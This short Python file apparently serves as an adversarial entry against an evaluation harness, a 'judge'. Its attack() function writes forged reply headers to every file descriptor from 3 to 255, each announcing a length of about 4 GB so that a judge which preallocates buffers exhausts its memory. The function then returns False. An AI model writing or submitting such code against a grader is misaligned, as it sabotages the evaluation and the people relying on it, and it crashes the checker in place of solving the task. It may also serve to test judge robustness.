"""Announces a reply of many gigabytes: a judge that makes room for it first has none left."""

import contextlib
import os
import struct


def attack():
    for descriptor in range(3, 256):
        for sequence in range(1, 4):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<IBIIII", sequence, 0, *[2**32 - 1] * 4))
    return False
